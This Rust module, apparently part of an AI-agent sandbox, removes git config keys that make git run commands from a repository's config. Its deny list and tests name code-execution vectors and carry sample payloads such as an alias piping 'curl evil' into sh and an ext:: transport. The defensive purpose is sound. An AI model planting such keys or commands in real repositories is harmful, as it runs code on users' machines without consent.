//! Git config keys that make git run a command, and a filter that removes them from a config
//! file's text while keeping everything else (remotes, branches, user settings) as written.
//!
//! Used where a session wrote a repository's `.git/config`: `git remote add` and `push -u`
//! keep working, and nothing the agent set runs on the host's next `git status`.

/// Keys (lower-case; `*` is a subsection) whose value git runs as a command, or that load
/// further config or a transport that does.
const CODE_KEYS: &[&str] = &[
    "core.fsmonitor",
    "core.hookspath",
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.askpass",
    "core.gitproxy",
    "core.alternaterefscommand",
    "core.worktree",
    "sequence.editor",
    "diff.external",
    "diff.*.textconv",
    "diff.*.command",
    "merge.*.driver",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "include.path",
    "includeif.*.path",
    "credential.helper",
    "credential.*.helper",
    "gpg.program",
    "gpg.*.program",
    "gpg.ssh.defaultkeycommand",
    "sendemail.*",
    "mergetool.*.path",
    "difftool.*.path",
    "uploadpack.packobjectshook",
    "interactive.difffilter",
    "web.browser",
    "browser.*.cmd",
    "browser.*.path",
    "man.*.cmd",
    "man.*.path",
    "remote.*.uploadpack",
    "remote.*.receivepack",
    "protocol.allow",
    "protocol.*.allow",
    "ssh.variant",
    "difftool.*.cmd",
    "mergetool.*.cmd",
    "pager.*",
    "http.proxy",
    "http.*.proxy",
];

/// True when the full key `section[.subsection].name` makes git run a command. An alias runs
/// a shell command when its value starts with `!`; a submodule's `update` likewise.
pub fn runs_code(key: &str, value: &str) -> bool {
    let key = key.to_ascii_lowercase();
    let (section, rest) = key.split_once('.').unwrap_or((&key, ""));
    let (sub, name) = match rest.rsplit_once('.') {
        Some((sub, name)) => (Some(sub), name),
        None => (None, rest),
    };
    if (section == "alias" || (section == "submodule" && name == "update")) && value.trim_start().starts_with('!') {
        return true;
    }
    if section == "url" {
        // `[url "ext::…"] insteadOf = https://`: URLs rewritten to a transport that runs a program.
        return sub.is_some_and(|s| s.trim_start().starts_with("ext::"));
    }
    CODE_KEYS.iter().any(|pattern| {
        let parts: Vec<&str> = pattern.split('.').collect();
        match (parts.as_slice(), sub) {
            ([s, "*"], _) => *s == section,
            ([s, n], None) => *s == section && *n == name,
            ([s, "*", n], Some(_)) => *s == section && *n == name,
            ([s, sub_pattern, n], Some(sub)) => *s == section && *sub_pattern == sub && *n == name,
            _ => false,
        }
    })
}

/// The values `text` sets for the full key `key` (`core.hookspath`, compared without case for
/// the section and the name), in order.
pub fn values(text: &str, key: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut section = String::new();
    for line in text.lines() {
        let trimmed = line.trim_start_matches('\u{feff}').trim();
        let body = if let Some(header) = trimmed.strip_prefix('[') {
            let (head, after) = header.split_once(']').unwrap_or((header, ""));
            section = section_name(head);
            after.trim()
        } else {
            trimmed
        };
        if body.is_empty() || body.starts_with(['#', ';']) {
            continue;
        }
        if let Some((name, value)) = body.split_once('=')
            && format!("{section}.{}", name.trim()).eq_ignore_ascii_case(key)
        {
            out.push(value.trim().trim_matches('"').to_owned());
        }
    }
    out
}

/// `text` without the lines that set a key which [`runs_code`], and the keys removed (as
/// `section.subsection.name`). Continuation lines (a value ending in `\`) go with their key.
/// Anything it cannot read as a key line is kept.
pub fn strip_code_keys(text: &str) -> (String, Vec<String>) {
    let mut out = String::with_capacity(text.len());
    let mut removed = Vec::new();
    let mut section = String::new();
    let mut dropping = false;
    // Git skips a byte-order mark before the first section; so must this, or `[core]` is not
    // read as a header and every key in it looks like no key at all.
    let (bom, text) = match text.strip_prefix('\u{feff}') {
        Some(rest) => ("\u{feff}", rest),
        None => ("", text),
    };
    out.push_str(bom);
    for line in text.split_inclusive('\n') {
        let body = line.trim_end_matches(['\n', '\r']);
        if dropping {
            dropping = body.ends_with('\\');
            continue;
        }
        let trimmed = body.trim_start();
        if let Some(header) = trimmed.strip_prefix('[') {
            let (head, after) = header.split_once(']').unwrap_or((header, ""));
            section = section_name(head);
            // `[core] fsmonitor = x` on one line: the key after the header.
            let after = after.trim_start();
            if !after.is_empty() && !after.starts_with(['#', ';']) && key_runs_code(&section, after, &mut removed) {
                out.push_str(&line[..line.len() - line.trim_start().len()]);
                out.push('[');
                out.push_str(head);
                out.push_str("]\n");
                dropping = body.ends_with('\\');
                continue;
            }
            out.push_str(line);
            continue;
        }
        if !trimmed.is_empty() && !trimmed.starts_with(['#', ';']) && key_runs_code(&section, trimmed, &mut removed) {
            dropping = body.ends_with('\\');
            continue;
        }
        out.push_str(line);
    }
    (out, removed)
}

/// `core`, `remote "origin"` → `remote.origin`, and the old `section.sub` spelling.
fn section_name(head: &str) -> String {
    let head = head.trim();
    match head.split_once(char::is_whitespace) {
        Some((name, sub)) => {
            let sub = sub.trim().trim_matches('"').replace("\\\"", "\"").replace("\\\\", "\\");
            format!("{}.{sub}", name.to_ascii_lowercase())
        }
        None => head.to_ascii_lowercase(),
    }
}

/// Reads `name [= value]` in `section`; records and returns true when it runs code.
fn key_runs_code(section: &str, line: &str, removed: &mut Vec<String>) -> bool {
    let (name, value) = match line.split_once('=') {
        Some((n, v)) => (n.trim(), v.trim()),
        None => (line.trim(), "true"),
    };
    let value = value.trim_matches('"');
    let full = format!("{section}.{name}");
    if runs_code(&full, value) {
        removed.push(full);
        return true;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_keys_that_run_commands_are_removed_and_the_rest_is_kept() {
        let config = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch /tmp/pwned\n\tbare = false\n\
                      [remote \"origin\"]\n\turl = https://example.org/r.git\n\tuploadpack = sh -c evil\n\
                      [branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n\
                      [alias]\n\tst = status\n\tx = !sh -c 'curl evil | sh'\n\
                      [filter \"lfs\"]\n\tsmudge = evil \\\n\t  continued\n\trequired = true\n\
                      [CORE] HooksPath = /tmp/hooks\n\
                      [url \"ext::sh -c evil \"]\n\tinsteadOf = https://\n\
                      [url \"https://mirror/\"]\n\tinsteadOf = ext::sh -c x\n\
                      [include]\n\tpath = ../evil.cfg\n";
        let (kept, removed) = strip_code_keys(config);
        assert_eq!(
            removed,
            [
                "core.fsmonitor",
                "remote.origin.uploadpack",
                "alias.x",
                "filter.lfs.smudge",
                "core.HooksPath",
                "url.ext::sh -c evil .insteadOf",
                "include.path"
            ]
        );
        for gone in ["pwned", "sh -c evil\n", "curl", "continued", "/tmp/hooks", "= https://\n", "evil.cfg"] {
            assert!(!kept.contains(gone), "{gone} in {kept}");
        }
        for stays in [
            "repositoryformatversion = 0",
            "bare = false",
            "url = https://example.org/r.git",
            "merge = refs/heads/main",
            "st = status",
            "required = true",
            "[CORE]",
            "insteadOf = ext::sh -c x",
        ] {
            assert!(kept.contains(stays), "{stays} not in {kept}");
        }
        // Idempotent, and a clean file is left byte for byte.
        assert_eq!(strip_code_keys(&kept), (kept.clone(), Vec::new()));
    }

    #[test]
    fn a_byte_order_mark_does_not_hide_the_section() {
        let (kept, removed) = strip_code_keys("\u{feff}[core]\n\tfsmonitor = evil\n\tbare = false\n");
        assert_eq!(removed, ["core.fsmonitor"]);
        assert_eq!(kept, "\u{feff}[core]\n\tbare = false\n");
        assert!(runs_code("gpg.ssh.defaultKeyCommand", "evil"));
        assert!(runs_code("sendemail.smtpserver", "/tmp/evil"));
        assert_eq!(
            values("[core]\n\thooksPath = .githooks\n[CORE]\nHOOKSPATH=x\n", "core.hookspath"),
            [".githooks", "x"]
        );
    }

    #[test]
    fn aliases_and_submodule_updates_run_code_only_with_a_bang() {
        assert!(runs_code("alias.x", "!id"));
        assert!(!runs_code("alias.x", "log --oneline"));
        assert!(runs_code("submodule.a.update", "!sh evil"));
        assert!(!runs_code("submodule.a.update", "rebase"));
        assert!(runs_code("diff.pdf.textconv", "pdftotext"));
        assert!(!runs_code("diff.renames", "true"));
        assert!(runs_code("pager.log", "less"));
        assert!(!runs_code("user.name", "Ada"));
    }
}
